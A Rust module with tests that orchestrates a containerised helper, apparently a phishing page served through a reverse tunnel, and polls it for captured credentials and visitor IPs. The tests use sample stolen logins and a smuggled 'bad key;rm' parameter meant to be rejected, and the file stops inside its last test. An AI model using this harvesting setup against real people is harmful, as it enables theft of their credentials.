//! Background task orchestrator
//!
//! Emulates a long-running task API on top of one-shot execs: a helper is
//! launched detached inside the container and reports progress through files
//! in a scratch directory, which the orchestrator polls.
//!
//! Helper contract, relative to the scratch directory:
//! - `status`: `starting`, `running`, `stopped` or `error[: message]`
//! - `url`: public `https://` URL, written before `running`
//! - `credentials.log`, `ips.log`: captured records, one per line, append-only
//!
//! At most one task is active per orchestrator; starting a task kills any
//! previous one first.

pub mod poll;

use std::collections::HashMap;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};
use tokio::sync::{Mutex, RwLock};
use tracing::{debug, info, warn};

use crate::config::{CaptureMode, TaskConfig};
use crate::container::{ContainerManager, ContainerSpec, ExecOutput, ExecSpec};
use crate::error::{Result, SandboxError};

use poll::{PollError, PollOutcome, PollPolicy};

const MARKER_FILE: &str = "status";
const URL_FILE: &str = "url";
const CREDENTIALS_FILE: &str = "credentials.log";
const IPS_FILE: &str = "ips.log";
const HELPER_LOG: &str = "helper.log";

static SECURE_URL: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^https://[^\s/?#]+[^\s]*$").expect("valid URL pattern"));

static PARAM_KEY: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*$").expect("valid key pattern"));

/// Task lifecycle
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TaskStatus {
    Idle,
    Starting,
    Running,
    Error,
    Stopped,
}

impl TaskStatus {
    pub fn as_str(&self) -> &'static str {
        match self {
            TaskStatus::Idle => "idle",
            TaskStatus::Starting => "starting",
            TaskStatus::Running => "running",
            TaskStatus::Error => "error",
            TaskStatus::Stopped => "stopped",
        }
    }

    /// Whether a helper may be alive in the container
    pub fn is_active(&self) -> bool {
        matches!(self, TaskStatus::Starting | TaskStatus::Running)
    }
}

/// The single tracked task
#[derive(Debug, Clone)]
struct TaskRecord {
    /// Bumped by every start and stop; stale updates are discarded
    generation: u64,
    status: TaskStatus,
    url: Option<String>,
    last_error: Option<String>,
    started_at: Option<DateTime<Utc>>,
}

/// Byte offsets already delivered from each capture file
#[derive(Debug, Default)]
struct CaptureCursor {
    credentials: u64,
    ips: u64,
}

/// Successful start
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct TaskStart {
    pub url: String,
    pub status: TaskStatus,
}

/// Point-in-time task view with newly captured records
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct TaskSnapshot {
    pub kind: String,
    pub status: TaskStatus,
    pub url: Option<String>,
    pub credentials: Vec<String>,
    pub ips: Vec<String>,
    pub error: Option<String>,
    pub started_at: Option<DateTime<Utc>>,
}

/// Parsed marker file contents
#[derive(Debug, Clone, PartialEq, Eq)]
enum Marker {
    Starting,
    Running,
    Stopped,
    Error(String),
    Unknown,
}

impl Marker {
    fn parse(raw: &str) -> Self {
        let marker = raw.trim();
        match marker {
            "starting" => Marker::Starting,
            "running" => Marker::Running,
            "stopped" => Marker::Stopped,
            _ => match marker.strip_prefix("error") {
                Some(rest) => {
                    let message = rest
                        .trim_start_matches(|c: char| c == ':' || c.is_whitespace())
                        .trim();
                    if message.is_empty() {
                        Marker::Error("Task helper reported an error".to_string())
                    } else {
                        Marker::Error(message.to_string())
                    }
                }
                None => Marker::Unknown,
            },
        }
    }
}

/// Single-quote a value for `sh`
fn shell_quote(value: &str) -> String {
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// Quoted `pkill -f` pattern that does not match the invoking shell
///
/// The first character is wrapped in a bracket expression, so the pattern
/// text itself (present in `sh -c`'s command line) no longer matches.
fn pkill_pattern(pattern: &str) -> String {
    let mut chars = pattern.chars();
    match chars.next() {
        Some(first) if first.is_ascii_alphanumeric() || first == '/' => {
            shell_quote(&format!("[{}]{}", first, chars.as_str()))
        }
        _ => shell_quote(pattern),
    }
}

fn is_secure_url(url: &str) -> bool {
    SECURE_URL.is_match(url)
}

/// Split complete lines into records, dropping blanks
fn records(bytes: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(bytes)
        .lines()
        .map(|line| line.trim_end_matches('\r').trim().to_string())
        .filter(|line| !line.is_empty())
        .collect()
}

/// Owns the task record and drives the helper through container execs
pub struct TaskOrchestrator {
    manager: Arc<ContainerManager>,
    spec: ContainerSpec,
    shell: Vec<String>,
    config: TaskConfig,
    /// Serializes `start` calls; held by the spawned start until it settles
    start_lock: Arc<Mutex<()>>,
    record: RwLock<TaskRecord>,
    capture: Mutex<CaptureCursor>,
}

impl TaskOrchestrator {
    pub fn new(
        manager: Arc<ContainerManager>,
        spec: ContainerSpec,
        shell: Vec<String>,
        config: TaskConfig,
    ) -> Self {
        Self {
            manager,
            spec,
            shell,
            config,
            start_lock: Arc::new(Mutex::new(())),
            record: RwLock::new(TaskRecord {
                generation: 0,
                status: TaskStatus::Idle,
                url: None,
                last_error: None,
                started_at: None,
            }),
            capture: Mutex::new(CaptureCursor::default()),
        }
    }

    pub fn kind(&self) -> &str {
        &self.config.kind
    }

    pub async fn current_status(&self) -> TaskStatus {
        self.record.read().await.status
    }

    fn path(&self, file: &str) -> String {
        format!("{}/{}", self.config.scratch_dir.trim_end_matches('/'), file)
    }

    fn kill_script(&self) -> String {
        self.config
            .process_patterns
            .iter()
            .map(|p| format!("pkill -f {} 2>/dev/null", pkill_pattern(p)))
            .chain(std::iter::once("true".to_string()))
            .collect::<Vec<_>>()
            .join("; ")
    }

    fn marker_script(&self, marker: &str) -> String {
        format!(
            "printf '%s\\n' {} > {}",
            shell_quote(marker),
            shell_quote(&self.path(MARKER_FILE))
        )
    }

    fn read_script(&self, file: &str) -> String {
        format!("cat {} 2>/dev/null || true", shell_quote(&self.path(file)))
    }

    /// `TASK_<KEY>=value` pairs for the helper, plus the file locations it reports through
    fn helper_env(&self, params: &HashMap<String, String>) -> Result<Vec<String>> {
        let mut env = Vec::with_capacity(params.len() + 5);
        for (key, value) in params {
            if !PARAM_KEY.is_match(key) {
                return Err(SandboxError::InvalidInput(format!(
                    "Invalid task parameter name: {}",
                    key
                )));
            }
            if value.contains('\0') {
                return Err(SandboxError::InvalidInput(format!(
                    "Task parameter {} contains a NUL byte",
                    key
                )));
            }
            env.push(format!("TASK_{}={}", key.to_ascii_uppercase(), value));
        }
        env.sort();

        env.push(format!("TASK_DIR={}", self.config.scratch_dir));
        env.push(format!("TASK_STATUS_FILE={}", self.path(MARKER_FILE)));
        env.push(format!("TASK_URL_FILE={}", self.path(URL_FILE)));
        env.push(format!("TASK_CREDENTIALS_FILE={}", self.path(CREDENTIALS_FILE)));
        env.push(format!("TASK_IPS_FILE={}", self.path(IPS_FILE)));
        Ok(env)
    }

    async fn exec(&self, id: &str, spec: ExecSpec) -> Result<ExecOutput> {
        let output = self.manager.engine().exec(id, spec).await?;
        if !output.success() {
            return Err(SandboxError::ExecutionError {
                message: format!("Task command exited with status {}", output.exit_code),
                stderr: output.stderr_lossy(),
            });
        }
        Ok(output)
    }

    async fn run(&self, id: &str, script: String) -> Result<ExecOutput> {
        self.exec(id, ExecSpec::shell(&self.shell, script)).await
    }

    /// Best-effort kill of helper processes; failures are logged and ignored
    async fn kill_helpers(&self, id: &str) {
        let spec = ExecSpec::shell(&self.shell, self.kill_script());
        if let Err(e) = self.manager.engine().exec(id, spec).await {
            warn!(task_kind = %self.config.kind, error = %e, "Failed to kill task helpers");
        }
    }

    /// Apply a status change unless a newer start or stop has happened since
    async fn transition<F>(&self, generation: u64, status: TaskStatus, apply: F) -> bool
    where
        F: FnOnce(&mut TaskRecord),
    {
        let mut record = self.record.write().await;
        if record.generation != generation {
            debug!(
                task_kind = %self.config.kind,
                status = status.as_str(),
                "Discarding stale task update"
            );
            return false;
        }

        apply(&mut record);
        if record.status != status {
            info!(
                task_kind = %self.config.kind,
                from = record.status.as_str(),
                to = status.as_str(),
                "Task status changed"
            );
            record.status = status;
            crate::metrics::record_task_transition(&self.config.kind, status.as_str());
        }
        true
    }

    /// Start a fresh task, killing any previous one first
    ///
    /// Resolves once the helper reports `running` with a valid URL; fails with
    /// `Task` on a reported error or when the poll ceiling is reached. The
    /// sequence runs on its own tokio task, so it settles to `Running` or
    /// `Error` even if the caller stops waiting.
    pub async fn start(self: &Arc<Self>, params: HashMap<String, String>) -> Result<TaskStart> {
        let env = self.helper_env(&params)?;
        let guard = self.start_lock.clone().lock_owned().await;

        let this = Arc::clone(self);
        let handle = tokio::spawn(async move {
            let _guard = guard;
            this.start_locked(env).await
        });

        match handle.await {
            Ok(result) => result,
            Err(e) => Err(SandboxError::Task(format!("Task start aborted: {}", e))),
        }
    }

    async fn start_locked(&self, env: Vec<String>) -> Result<TaskStart> {

        if self.record.read().await.status.is_active() {
            info!(task_kind = %self.config.kind, "Terminating previous task");
            match self.manager.find(&self.spec.name).await {
                Ok(Some(handle)) if handle.running() => self.kill_helpers(&handle.id).await,
                Ok(_) => {}
                Err(e) => warn!(error = %e, "Could not look up container for previous task"),
            }
        }

        let generation = {
            let mut record = self.record.write().await;
            record.generation += 1;
            record.status = TaskStatus::Starting;
            record.url = None;
            record.last_error = None;
            record.started_at = Some(Utc::now());
            record.generation
        };
        *self.capture.lock().await = CaptureCursor::default();
        crate::metrics::record_task_transition(&self.config.kind, TaskStatus::Starting.as_str());
        info!(task_kind = %self.config.kind, generation, "Starting task");

        match self.launch(generation, env).await {
            Ok(url) => Ok(TaskStart {
                url,
                status: TaskStatus::Running,
            }),
            Err(e) => {
                let message = match e {
                    SandboxError::Task(message) => message,
                    other => other.to_string(),
                };
                warn!(task_kind = %self.config.kind, error = %message, "Task failed to start");
                self.transition(generation, TaskStatus::Error, |r| {
                    r.last_error = Some(message.clone())
                })
                .await;
                Err(SandboxError::Task(message))
            }
        }
    }

    async fn launch(&self, generation: u64, env: Vec<String>) -> Result<String> {
        let handle = self.manager.ensure_running(&self.spec).await?;
        let id = handle.id.as_str();
        let dir = shell_quote(&self.config.scratch_dir);

        self.kill_helpers(id).await;
        self.run(id, format!("rm -rf {dir} && mkdir -p {dir}")).await?;
        self.run(id, self.marker_script("starting")).await?;

        let launch = format!(
            "cd {dir} && nohup {} > {} 2>&1 &",
            self.config.launch_command,
            shell_quote(&self.path(HELPER_LOG)),
        );
        self.exec(id, ExecSpec::shell(&self.shell, launch).with_env(env))
            .await?;
        debug!(task_kind = %self.config.kind, "Task helper launched");

        let policy = PollPolicy::new(self.config.poll_interval(), self.config.poll_max_attempts);
        match policy.poll_until(move |_| self.probe(id)).await {
            Ok(url) => {
                let stored = url.clone();
                if self
                    .transition(generation, TaskStatus::Running, |r| r.url = Some(stored))
                    .await
                {
                    info!(task_kind = %self.config.kind, url = %url, "Task running");
                    Ok(url)
                } else {
                    Err(SandboxError::Task("Task was superseded while starting".into()))
                }
            }
            Err(PollError::Failed(message)) => Err(SandboxError::Task(message)),
            Err(PollError::Exhausted { attempts }) => {
                let message = format!(
                    "Timed out waiting for task to start after {} seconds",
                    policy.ceiling().as_secs()
                );
                warn!(task_kind = %self.config.kind, attempts, "Task start poll exhausted");
                self.kill_helpers(id).await;
                if let Err(e) = self.run(id, self.marker_script(&format!("error: {}", message))).await {
                    warn!(error = %e, "Failed to write error marker");
                }
                Err(SandboxError::Task(message))
            }
        }
    }

    /// One poll cycle: ready only when the marker says `running` and the URL validates
    async fn probe(&self, id: &str) -> PollOutcome<String> {
        let marker = match self.run(id, self.read_script(MARKER_FILE)).await {
            Ok(output) => output.stdout_lossy(),
            Err(e) => return PollOutcome::Failed(e.to_string()),
        };

        match Marker::parse(&marker) {
            Marker::Running => match self.read_url(id).await {
                Ok(Some(url)) => PollOutcome::Ready(url),
                Ok(None) => PollOutcome::Pending,
                Err(e) => PollOutcome::Failed(e.to_string()),
            },
            Marker::Error(message) => PollOutcome::Failed(message),
            Marker::Stopped => PollOutcome::Failed("Task was stopped while starting".into()),
            Marker::Starting | Marker::Unknown => PollOutcome::Pending,
        }
    }

    async fn read_url(&self, id: &str) -> Result<Option<String>> {
        let output = self.run(id, self.read_script(URL_FILE)).await?;
        let url = output.stdout_lossy().trim().to_string();
        if is_secure_url(&url) {
            Ok(Some(url))
        } else {
            if !url.is_empty() {
                debug!(url = %url, "Ignoring task URL that is not https");
            }
            Ok(None)
        }
    }

    /// Current status plus any capture records not delivered before
    pub async fn status(&self) -> Result<TaskSnapshot> {
        let (generation, current) = {
            let record = self.record.read().await;
            (record.generation, record.status)
        };

        if current == TaskStatus::Idle {
            return Ok(self.snapshot(Vec::new(), Vec::new()).await);
        }

        let handle = match self.manager.find(&self.spec.name).await {
            Ok(Some(handle)) if handle.running() => handle,
            Ok(_) => {
                if current.is_active() {
                    self.fail(generation, "Container is not running".to_string()).await;
                }
                return Ok(self.snapshot(Vec::new(), Vec::new()).await);
            }
            Err(e) => {
                if current.is_active() {
                    self.fail(generation, e.to_string()).await;
                }
                return Ok(self.snapshot(Vec::new(), Vec::new()).await);
            }
        };

        if let Err(e) = self.refresh(generation, current, &handle.id).await {
            self.fail(generation, e.to_string()).await;
            return Ok(self.snapshot(Vec::new(), Vec::new()).await);
        }

        if self.current_status().await != TaskStatus::Running {
            return Ok(self.snapshot(Vec::new(), Vec::new()).await);
        }

        match self.read_captures(&handle.id).await {
            Ok((credentials, ips)) => Ok(self.snapshot(credentials, ips).await),
            Err(e) => {
                self.fail(generation, e.to_string()).await;
                Ok(self.snapshot(Vec::new(), Vec::new()).await)
            }
        }
    }

    /// Re-read the marker and apply the transition it implies
    async fn refresh(&self, generation: u64, current: TaskStatus, id: &str) -> Result<()> {
        let marker = self.run(id, self.read_script(MARKER_FILE)).await?;

        match Marker::parse(&marker.stdout_lossy()) {
            Marker::Running if current == TaskStatus::Starting => {
                if let Some(url) = self.read_url(id).await? {
                    self.transition(generation, TaskStatus::Running, |r| r.url = Some(url))
                        .await;
                }
            }
            Marker::Error(message) if current.is_active() => {
                self.fail(generation, message).await;
            }
            Marker::Stopped if current.is_active() => {
                self.transition(generation, TaskStatus::Stopped, |_| {}).await;
            }
            _ => {}
        }
        Ok(())
    }

    async fn fail(&self, generation: u64, message: String) {
        warn!(task_kind = %self.config.kind, error = %message, "Task failed");
        self.transition(generation, TaskStatus::Error, |r| r.last_error = Some(message))
            .await;
    }

    async fn read_captures(&self, id: &str) -> Result<(Vec<String>, Vec<String>)> {
        let mut cursor = self.capture.lock().await;

        match self.config.capture_mode {
            CaptureMode::Offset => {
                let (credentials, offset) =
                    self.read_from_offset(id, CREDENTIALS_FILE, cursor.credentials).await?;
                cursor.credentials = offset;
                let (ips, offset) = self.read_from_offset(id, IPS_FILE, cursor.ips).await?;
                cursor.ips = offset;
                Ok((credentials, ips))
            }
            CaptureMode::Truncate => {
                let credentials = self.drain(id, CREDENTIALS_FILE).await?;
                let ips = self.drain(id, IPS_FILE).await?;
                Ok((credentials, ips))
            }
        }
    }

    /// Complete lines appended after `offset`, and the offset just past them
    ///
    /// A trailing partial line is left for the next read. If the file shrank
    /// below `offset` it was recreated, so reading restarts from the beginning.
    async fn read_from_offset(&self, id: &str, file: &str, offset: u64) -> Result<(Vec<String>, u64)> {
        let path = shell_quote(&self.path(file));
        let script = format!(
            "if [ -f {path} ]; then wc -c < {path}; tail -c +{} {path}; fi",
            offset + 1
        );
        let output = self.run(id, script).await?;

        let Some(split) = output.stdout.iter().position(|b| *b == b'\n') else {
            return Ok((Vec::new(), 0));
        };
        let size: u64 = String::from_utf8_lossy(&output.stdout[..split])
            .trim()
            .parse()
            .unwrap_or(0);
        if size < offset {
            warn!(file = %file, size, offset, "Capture file shrank, rereading from start");
            return Ok((Vec::new(), 0));
        }

        let rest = &output.stdout[split + 1..];
        let consumed = rest.iter().rposition(|b| *b == b'\n').map(|i| i + 1).unwrap_or(0);
        Ok((records(&rest[..consumed]), offset + consumed as u64))
    }

    /// Read then truncate; writes racing the truncate are lost
    async fn drain(&self, id: &str, file: &str) -> Result<Vec<String>> {
        let path = shell_quote(&self.path(file));
        let script = format!("if [ -s {path} ]; then cat {path}; : > {path}; fi");
        let output = self.run(id, script).await?;
        Ok(records(&output.stdout))
    }

    async fn snapshot(&self, credentials: Vec<String>, ips: Vec<String>) -> TaskSnapshot {
        let record = self.record.read().await;
        TaskSnapshot {
            kind: self.config.kind.clone(),
            status: record.status,
            url: record.url.clone(),
            credentials,
            ips,
            error: record.last_error.clone(),
            started_at: record.started_at,
        }
    }

    /// Kill the helper and mark the task stopped; captured artifacts are kept
    pub async fn stop(&self) -> Result<TaskStatus> {
        let generation = {
            let mut record = self.record.write().await;
            record.generation += 1;
            record.generation
        };

        match self.manager.find(&self.spec.name).await {
            Ok(Some(handle)) if handle.running() => {
                self.kill_helpers(&handle.id).await;
                if let Err(e) = self.run(&handle.id, self.marker_script("stopped")).await {
                    warn!(error = %e, "Failed to write stopped marker");
                }
            }
            Ok(_) => debug!(container = %self.spec.name, "Container not running, nothing to kill"),
            Err(e) => warn!(error = %e, "Could not look up container to stop task"),
        }

        self.transition(generation, TaskStatus::Stopped, |_| {}).await;
        info!(task_kind = %self.config.kind, "Task stopped");
        Ok(TaskStatus::Stopped)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::VecDeque;
    use std::sync::Mutex as StdMutex;
    use std::time::Duration;

    use pretty_assertions::assert_eq;

    use crate::container::testing::{stdout, FakeEngine};
    use crate::container::engine::MockContainerEngine;
    use crate::container::{ContainerEngine, ContainerStatus};

    const DIR: &str = "/tmp/task";

    /// Files visible to the fake container, keyed by path
    #[derive(Clone, Default)]
    struct Files(Arc<StdMutex<HashMap<String, String>>>);

    impl Files {
        fn set(&self, name: &str, content: &str) {
            self.0
                .lock()
                .unwrap()
                .insert(format!("{}/{}", DIR, name), content.to_string());
        }

        fn append(&self, name: &str, content: &str) {
            self.0
                .lock()
                .unwrap()
                .entry(format!("{}/{}", DIR, name))
                .or_default()
                .push_str(content);
        }

        fn get(&self, name: &str) -> String {
            self.0
                .lock()
                .unwrap()
                .get(&format!("{}/{}", DIR, name))
                .cloned()
                .unwrap_or_default()
        }
    }

    fn marker_read() -> String {
        format!("cat '{}/status'", DIR)
    }

    /// Engine whose marker reads walk `markers` (repeating the last) and whose
    /// other file reads come from `files`
    fn engine(markers: &[&str], files: Files, env_seen: Arc<StdMutex<Vec<String>>>) -> Arc<FakeEngine> {
        let mut markers: VecDeque<String> = markers.iter().map(|m| m.to_string()).collect();
        let tail = Regex::new(r"tail -c \+(\d+) '([^']+)'").unwrap();
        let drain = Regex::new(r"then cat '([^']+)'; : >").unwrap();
        let cat = Regex::new(r"^cat '([^']+)'").unwrap();

        Arc::new(
            FakeEngine::new()
                .with_container("vm", ContainerStatus::Running)
                .with_responder(move |spec| {
                    let script = spec.cmd.last().cloned().unwrap_or_default();
                    let files = files.0.clone();

                    if script.starts_with(&marker_read()) {
                        let marker = if markers.len() > 1 {
                            markers.pop_front().unwrap_or_default()
                        } else {
                            markers.front().cloned().unwrap_or_default()
                        };
                        return Ok(stdout(&marker));
                    }
                    if script.contains("nohup") {
                        *env_seen.lock().unwrap() = spec.env.clone();
                    }
                    if let Some(c) = tail.captures(&script) {
                        let start: usize = c[1].parse().unwrap();
                        let content = files.lock().unwrap().get(&c[2]).cloned().unwrap_or_default();
                        let rest = content.get(start - 1..).unwrap_or("");
                        return Ok(stdout(&format!("{}\n{}", content.len(), rest)));
                    }
                    if let Some(c) = drain.captures(&script) {
                        let content = files.lock().unwrap().insert(c[1].to_string(), String::new());
                        return Ok(stdout(&content.unwrap_or_default()));
                    }
                    if let Some(c) = cat.captures(&script) {
                        let content = files.lock().unwrap().get(&c[1]).cloned().unwrap_or_default();
                        return Ok(stdout(&content));
                    }
                    Ok(stdout(""))
                }),
        )
    }

    fn task_config(mode: CaptureMode, max_attempts: u32) -> TaskConfig {
        TaskConfig {
            kind: "capture".to_string(),
            scratch_dir: DIR.to_string(),
            launch_command: "/opt/helper.sh".to_string(),
            process_patterns: vec!["/opt/helper.sh".to_string(), "ssh -R".to_string()],
            poll_interval_ms: 1,
            poll_max_attempts: max_attempts,
            capture_mode: mode,
        }
    }

    fn orchestrator(engine: Arc<FakeEngine>, mode: CaptureMode, max_attempts: u32) -> Arc<TaskOrchestrator> {
        with_config(engine, task_config(mode, max_attempts))
    }

    fn with_config(engine: Arc<dyn ContainerEngine>, config: TaskConfig) -> Arc<TaskOrchestrator> {
        let spec = ContainerSpec {
            name: "vm".to_string(),
            image: "kalilinux/kali-rolling".to_string(),
            command: vec![],
            privileged: false,
            cap_add: vec![],
            network_mode: None,
        };
        Arc::new(TaskOrchestrator::new(
            Arc::new(ContainerManager::new(engine)),
            spec,
            vec!["/bin/sh".to_string(), "-c".to_string()],
            config,
        ))
    }

    /// Put the record in `status` as if a start had already run
    async fn seed(tasks: &TaskOrchestrator, status: TaskStatus) {
        let mut record = tasks.record.write().await;
        record.generation += 1;
        record.status = status;
    }

    fn marker_reads(engine: &FakeEngine) -> usize {
        engine
            .scripts()
            .iter()
            .filter(|s| s.starts_with(&marker_read()))
            .count()
    }

    fn running(files: &Files) -> Arc<FakeEngine> {
        files.set("url", "https://example.test\n");
        engine(&["running"], files.clone(), Arc::default())
    }

    #[tokio::test]
    async fn test_start_resolves_after_third_poll() {
        let files = Files::default();
        files.set("url", "https://example.test");
        let engine = engine(&["starting", "starting", "running"], files, Arc::default());
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 15);

        let started = tasks.start(HashMap::new()).await.unwrap();

        assert_eq!(started.url, "https://example.test");
        assert_eq!(started.status, TaskStatus::Running);
        assert_eq!(marker_reads(&engine), 3);
        assert_eq!(tasks.current_status().await, TaskStatus::Running);
    }

    #[tokio::test]
    async fn test_start_times_out() {
        let engine = engine(&["starting"], Files::default(), Arc::default());
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 4);

        let err = tasks.start(HashMap::new()).await.unwrap_err();

        match err {
            SandboxError::Task(message) => assert!(message.contains("Timed out"), "{message}"),
            other => panic!("unexpected error: {other:?}"),
        }
        assert_eq!(marker_reads(&engine), 4);
        assert_eq!(tasks.current_status().await, TaskStatus::Error);

        // Cleanup after exhaustion: helpers killed, error marker written
        let scripts = engine.scripts();
        let last_read = scripts.iter().rposition(|s| s.starts_with(&marker_read())).unwrap();
        let tail = &scripts[last_read + 1..];
        assert!(tail.iter().any(|s| s.contains("pkill -f")));
        assert!(tail.iter().any(|s| s.contains("error: Timed out")));
    }

    #[tokio::test]
    async fn test_running_without_https_url_stays_starting() {
        let files = Files::default();
        files.set("url", "http://example.test");
        let engine = engine(&["running"], files, Arc::default());
        let tasks = orchestrator(engine, CaptureMode::Offset, 3);

        assert!(tasks.start(HashMap::new()).await.is_err());
        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Error);
        assert_eq!(snapshot.url, None);
    }

    #[tokio::test]
    async fn test_error_marker_aborts_polling() {
        let engine = engine(
            &["starting", "error: tunnel refused connection"],
            Files::default(),
            Arc::default(),
        );
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 15);

        let err = tasks.start(HashMap::new()).await.unwrap_err();

        assert!(matches!(err, SandboxError::Task(ref m) if m == "tunnel refused connection"));
        assert_eq!(marker_reads(&engine), 2);
        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.error.as_deref(), Some("tunnel refused connection"));
    }

    #[tokio::test]
    async fn test_restart_kills_previous_task_before_launch() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 5);

        tasks.start(HashMap::new()).await.unwrap();
        tasks.start(HashMap::new()).await.unwrap();

        let scripts = engine.scripts();
        let launches: Vec<usize> = scripts
            .iter()
            .enumerate()
            .filter(|(_, s)| s.contains("nohup"))
            .map(|(i, _)| i)
            .collect();
        assert_eq!(launches.len(), 2);

        let between = &scripts[launches[0] + 1..launches[1]];
        let kill = between.iter().position(|s| s.contains("pkill -f")).unwrap();
        let wipe = between.iter().position(|s| s.starts_with("rm -rf")).unwrap();
        assert!(kill < wipe);
    }

    #[tokio::test]
    async fn test_params_are_exported_to_helper() {
        let files = Files::default();
        files.set("url", "https://example.test");
        let env_seen = Arc::new(StdMutex::new(Vec::new()));
        let engine = engine(&["running"], files, env_seen.clone());
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);

        let params = HashMap::from([("template".to_string(), "it's login".to_string())]);
        tasks.start(params).await.unwrap();

        let env = env_seen.lock().unwrap().clone();
        assert!(env.contains(&"TASK_TEMPLATE=it's login".to_string()));
        assert!(env.contains(&format!("TASK_STATUS_FILE={}/status", DIR)));
    }

    #[tokio::test]
    async fn test_invalid_param_name_is_rejected_without_exec() {
        let engine = running(&Files::default());
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 5);

        let params = HashMap::from([("bad key;rm".to_string(), "x".to_string())]);
        let err = tasks.start(params).await.unwrap_err();

        assert!(matches!(err, SandboxError::InvalidInput(_)));
        assert!(engine.calls().is_empty());
        assert_eq!(tasks.current_status().await, TaskStatus::Idle);
    }

    #[tokio::test]
    async fn test_offset_capture_delivers_each_line_once() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);
        tasks.start(HashMap::new()).await.unwrap();

        files.set("credentials.log", "alice:hunter2\nbob:pw\n");
        files.set("ips.log", "203.0.113.7\n");

        let first = tasks.status().await.unwrap();
        assert_eq!(first.credentials, vec!["alice:hunter2", "bob:pw"]);
        assert_eq!(first.ips, vec!["203.0.113.7"]);

        let second = tasks.status().await.unwrap();
        assert!(second.credentials.is_empty());
        assert!(second.ips.is_empty());

        // Partial lines wait for their newline; nothing is truncated
        files.append("credentials.log", "carol:x\nda");
        assert_eq!(tasks.status().await.unwrap().credentials, vec!["carol:x"]);
        files.append("credentials.log", "ve:y\n");
        assert_eq!(tasks.status().await.unwrap().credentials, vec!["dave:y"]);
        assert!(files.get("credentials.log").starts_with("alice"));
    }

    #[tokio::test]
    async fn test_truncate_capture_clears_file() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine, CaptureMode::Truncate, 5);
        tasks.start(HashMap::new()).await.unwrap();

        files.set("credentials.log", "alice:hunter2\n");

        assert_eq!(tasks.status().await.unwrap().credentials, vec!["alice:hunter2"]);
        assert!(tasks.status().await.unwrap().credentials.is_empty());
        assert_eq!(files.get("credentials.log"), "");
    }

    #[tokio::test]
    async fn test_stop_keeps_artifacts() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 5);
        tasks.start(HashMap::new()).await.unwrap();

        assert_eq!(tasks.stop().await.unwrap(), TaskStatus::Stopped);

        let scripts = engine.scripts();
        assert!(scripts.last().unwrap().contains("'stopped'"));

        // Helper marker still says running, but a stopped task stays stopped
        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Stopped);
        assert_eq!(snapshot.url.as_deref(), Some("https://example.test"));
    }

    #[tokio::test]
    async fn test_abandoned_start_still_times_out() {
        let engine = engine(&["starting"], Files::default(), Arc::default());
        let mut config = task_config(CaptureMode::Offset, 3);
        config.poll_interval_ms = 10;
        let tasks = with_config(engine.clone(), config);

        // Caller gives up during the second poll interval
        let abandoned = tokio::time::timeout(Duration::from_millis(15), tasks.start(HashMap::new())).await;
        assert!(abandoned.is_err());

        tokio::time::sleep(Duration::from_millis(200)).await;

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Error);
        assert!(snapshot.error.unwrap().contains("Timed out"));
        assert_eq!(marker_reads(&engine), 4);

        let scripts = engine.scripts();
        assert!(scripts.iter().any(|s| s.contains("error: Timed out")));
        assert!(scripts.iter().filter(|s| s.contains("pkill -f")).count() >= 2);
    }

    #[tokio::test]
    async fn test_status_promotes_starting_task_once_url_is_ready() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);
        seed(&tasks, TaskStatus::Starting).await;

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Running);
        assert_eq!(snapshot.url.as_deref(), Some("https://example.test"));
    }

    #[tokio::test]
    async fn test_status_keeps_starting_without_secure_url() {
        let files = Files::default();
        files.set("url", "http://example.test");
        let engine = engine(&["running"], files, Arc::default());
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);
        seed(&tasks, TaskStatus::Starting).await;

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Starting);
        assert_eq!(snapshot.url, None);
    }

    #[tokio::test]
    async fn test_status_reports_helper_error() {
        let engine = engine(&["error: tunnel dropped"], Files::default(), Arc::default());
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);
        seed(&tasks, TaskStatus::Running).await;

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Error);
        assert_eq!(snapshot.error.as_deref(), Some("tunnel dropped"));
        assert!(snapshot.credentials.is_empty());
    }

    #[tokio::test]
    async fn test_status_follows_external_stop_marker() {
        let engine = engine(&["stopped"], Files::default(), Arc::default());
        let tasks = orchestrator(engine, CaptureMode::Offset, 5);
        seed(&tasks, TaskStatus::Running).await;

        assert_eq!(tasks.status().await.unwrap().status, TaskStatus::Stopped);
    }

    #[tokio::test]
    async fn test_status_fails_when_container_goes_away() {
        let files = Files::default();
        let engine = running(&files);
        let tasks = orchestrator(engine.clone(), CaptureMode::Offset, 5);
        tasks.start(HashMap::new()).await.unwrap();

        engine.stop("id-vm").await.unwrap();

        let snapshot = tasks.status().await.unwrap();
        assert_eq!(snapshot.status, TaskStatus::Error);
